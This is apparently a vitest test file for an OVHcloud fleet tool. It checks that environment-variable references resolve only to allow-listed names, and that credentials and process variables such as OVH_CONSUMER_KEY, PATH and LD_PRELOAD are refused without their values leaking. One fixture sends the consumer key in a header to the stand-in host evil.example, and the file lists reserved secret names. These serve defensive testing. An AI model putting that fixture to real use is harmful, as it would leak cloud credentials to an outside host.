/**
 * `{env: NAME}` references name only allowed variables (DESIGN.md §2 "References"): the
 * allow-list (default FLEET_SECRET_*, OVH_FLEET_SECRETS_ALLOW) and never the process's own
 * variables, OVHcloud credentials first. Refusals name the file, line and variable, never a value.
 */
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { buildReinstallBody } from '../../src/apply/reinstall-body.js';
import {
  DEFAULT_SECRET_RULE,
  isReservedName,
  parseSecretRule,
  secretVerdict,
  type SecretRule,
} from '../../src/core/secret-rule.js';
import { buildServerSpec } from '../../src/specs/build-spec.js';
import { parseFleetFile } from '../../src/specs/parse-file.js';
import { createRepoFiles } from '../../src/specs/repo-files.js';
import { makeRepo, removeRepos, spec } from './temp-repo.js';

afterAll(removeRepos);

const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);
const root = makeRepo({});

function build(text: string, rule?: SecretRule) {
  const parsed = parseFleetFile('servers/a.yaml', utf8(text));
  return buildServerSpec(parsed, createRepoFiles(root), rule);
}

function rule(text: string): SecretRule {
  const parsed = parseSecretRule(text);
  if (typeof parsed === 'string') throw new Error(parsed);
  return parsed;
}

const CREDENTIAL = 'consumer-key-value-9f8e7d';

describe('{env: NAME} names only allowed variables', () => {
  it('refuses the OVHcloud consumer key in an httpHeaders header, naming file, line and variable', () => {
    const result = build(
      spec(
        'ns1.eu',
        'customizations:\n  imageURL: https://evil.example/x\n  httpHeaders: {X: {env: OVH_CONSUMER_KEY}}\n',
      ),
      rule('OVH_*, FLEET_SECRET_*'),
    );

    expect(result.spec).toBeUndefined();
    expect(result.diagnostics).toEqual([
      expect.objectContaining({
        file: 'servers/a.yaml',
        line: 7,
        code: 'env-not-allowed',
        message: expect.stringContaining('OVH_CONSUMER_KEY'),
      }),
    ]);
  });

  it.each([
    'IMAGE_TOKEN',
    'PATH',
    'HOME',
    'NODE_OPTIONS',
    'OVH_FLEET_WEBHOOK_SECRET_FILE',
    'CREDENTIALS_DIRECTORY',
  ])('refuses %s under the default allow-list', (name) => {
    const result = build(spec('ns1.eu', `customizations:\n  sshKey: {env: ${name}}\n`));

    expect(result.diagnostics.map((d) => [d.code, d.line])).toEqual([['env-not-allowed', 6]]);
  });

  it('accepts FLEET_SECRET_* by default, and what OVH_FLEET_SECRETS_ALLOW lists', () => {
    const byDefault = build(spec('ns1.eu', 'customizations:\n  sshKey: {env: FLEET_SECRET_SSH}\n'));
    const listed = build(
      spec('ns1.eu', 'customizations:\n  sshKey: {env: IMAGE_TOKEN}\n'),
      rule('IMAGE_TOKEN'),
    );

    expect(byDefault.diagnostics).toEqual([]);
    expect(byDefault.spec?.customizations.sshKey).toEqual({ kind: 'env', name: 'FLEET_SECRET_SSH' });
    expect(listed.diagnostics).toEqual([]);
  });

  it('refuses an allow-list that names a credential or a setting outright', () => {
    expect(parseSecretRule('IMAGE_TOKEN,OVH_CONSUMER_KEY')).toMatch(/OVH_CONSUMER_KEY/);
    expect(parseSecretRule('PATH')).toMatch(/PATH/);
    expect(parseSecretRule('a-b')).toMatch(/a-b/);
    expect(parseSecretRule(' , ')).toMatch(/empty/);
  });

  it('refuses at apply time too, and never puts a value in the message', () => {
    const built = build(spec('ns1.eu', 'customizations:\n  sshKey: {env: FLEET_SECRET_SSH}\n'));
    const target = {
      ...built.spec!,
      customizations: { sshKey: { kind: 'env' as const, name: 'OVH_CONSUMER_KEY' } },
    };

    const result = buildReinstallBody(target, { OVH_CONSUMER_KEY: CREDENTIAL }, rule('OVH_*'));

    expect(result.ok).toBe(false);
    expect(JSON.stringify(result)).not.toContain(CREDENTIAL);
    expect(result).toMatchObject({ code: 'env-not-allowed', missing: ['OVH_CONSUMER_KEY'] });
  });
});

/** Names: credentials and process variables (any case), allowed-looking names, anything valid. */
const names = fc.oneof(
  fc.constantFrom(
    'OVH_CONSUMER_KEY',
    'OVH_APPLICATION_SECRET',
    'ovh_consumer_key',
    'Ovh_Client_Secret',
    'OVH_FLEET_STATE_DIR',
    'PATH',
    'HOME',
    'NODE_OPTIONS',
    'LD_PRELOAD',
    'CREDENTIALS_DIRECTORY',
    'FLEET_SECRET_A',
    'IMAGE_TOKEN',
  ),
  fc.stringMatching(/^(FLEET_SECRET_|OVH_|IMAGE_|)[A-Za-z_][A-Za-z0-9_]{0,12}$/),
);
const rules = fc.oneof(
  fc.constant(DEFAULT_SECRET_RULE),
  fc.constant(rule('OVH_*,IMAGE_*,ovh_*,P*,N*,L*,C*,H*')),
  fc.constant(rule('IMAGE_TOKEN,FLEET_SECRET_A')),
);

describe('property: a reference resolves only if allowed, and never to a credential', () => {
  it('holds for validation and for the apply-time body', () => {
    fc.assert(
      fc.property(names, rules, (name, r) => {
        const verdict = secretVerdict(r, name);
        const value = `value-of-${name}`;
        const built = build(spec('ns1.eu', `customizations:\n  sshKey: {env: ${name}}\n`), r);
        const body = buildReinstallBody(
          { ...build(spec('ns1.eu')).spec!, customizations: { sshKey: { kind: 'env', name } } },
          { [name]: value },
          r,
        );
        const allowed = verdict === 'allowed';
        expect(allowed && isReservedName(name)).toBe(false);
        expect(built.spec !== undefined).toBe(allowed);
        expect(body.ok).toBe(allowed);
        if (body.ok) expect(body.body.customizations?.sshKey).toBe(value);
        else expect(JSON.stringify(body)).not.toContain(value);
        if (/^ovh_/i.test(name) || ['PATH', 'HOME', 'NODE_OPTIONS', 'LD_PRELOAD'].includes(name)) {
          expect(allowed).toBe(false);
        }
      }),
      { numRuns: 400 },
    );
  });
});
